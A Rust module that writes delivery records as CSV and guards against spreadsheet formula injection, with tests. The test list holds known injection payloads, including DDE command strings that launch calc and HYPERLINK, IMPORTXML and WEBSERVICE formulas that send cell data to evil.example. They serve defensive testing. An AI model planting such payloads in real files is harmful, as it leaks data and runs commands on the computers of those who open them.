//! Deliveries as CSV (RFC 4180), for a spreadsheet that must not take a cell for
//! a formula.

use crate::calendar::{from_millis, stamp};
use crate::ledger::Line;

const HEAD: [&str; 11] = [
    "delivery",
    "reference",
    "received_at",
    "partner",
    "locale",
    "recipient",
    "state",
    "parked_for",
    "attempts",
    "ended_at",
    "possible_duplicate",
];

/// The whole file. Nothing personal stands in it.
pub(super) fn csv(lines: &[Line]) -> String {
    let mut all = row(HEAD.map(str::to_owned));
    for line in lines {
        let at = |at: i64| stamp(from_millis(at));
        all.push_str(&row([
            line.delivery.clone(),
            line.reference.clone(),
            at(line.received_at),
            line.partner.clone(),
            line.locale.clone(),
            line.recipient.clone(),
            line.state.clone(),
            line.parked_for.clone().unwrap_or_default(),
            line.attempts.to_string(),
            line.ended_at.map(at).unwrap_or_default(),
            line.possible_duplicate.to_string(),
        ]));
    }
    all
}

fn row<const N: usize>(cells: [String; N]) -> String {
    format!("{}\r\n", cells.map(|text| cell(&text)).join(","))
}

/// A cell that is read as the text it is. Spreadsheets take what begins with
/// one of these for a formula, also after a space, and some in their wide forms:
/// an apostrophe before it says that it is text (ASVS 1.2.10).
pub(super) fn cell(text: &str) -> String {
    const STARTS: &str = "=+-@\t\r\n|%＝＋－＠";
    // What cannot be seen must not hide what is.
    let hidden = |c: char| c.is_whitespace() || "\u{200b}\u{200e}\u{200f}\u{feff}".contains(c);
    let first = text.trim_start_matches(hidden).chars().next();
    let is_formula =
        text.starts_with(['\t', '\r', '\n']) || first.is_some_and(|c| STARTS.contains(c));
    let text = if is_formula { format!("'{text}") } else { text.to_owned() };
    format!("\"{}\"", text.replace('\0', "").replace('"', "\"\""))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What has been used against those who open exports.
    const FORMULAS: [&str; 24] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")",
        "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
        "=WEBSERVICE(\"http://evil.example\")",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(1+9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "|calc",
        "%0A=1+1",
    ];

    #[test]
    fn no_cell_is_taken_for_a_formula() {
        for text in FORMULAS {
            assert!(cell(text).starts_with("\"'"), "{text:?}");
        }
    }

    #[test]
    fn no_cell_ends_before_it_does() {
        for text in ["a\",=1+1,\"", "a\r\n=1+1", "a\n\"=1+1", "a,b", "a;b", "\"", "\"\"", "a\0b"] {
            let cell = cell(text);
            let inside = cell.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')).unwrap();
            assert!(!inside.replace("\"\"", "").contains('"'), "{cell}");
            assert!(!cell.contains('\0'));
        }
        assert_eq!(cell("Åre 2026"), "\"Åre 2026\"");
    }

    #[test]
    fn a_file_has_a_head_and_a_line_a_delivery() {
        let line = Line { reference: "=1".into(), received_at: 1_000, ..Line::default() };
        let file = csv(&[line]);
        let lines: Vec<_> = file.split_terminator("\r\n").collect();
        assert_eq!(lines.len(), 2);
        assert!(lines[1].starts_with("\"\",\"'=1\",\"1970-01-01T00:00:01Z\""), "{}", lines[1]);
    }
}
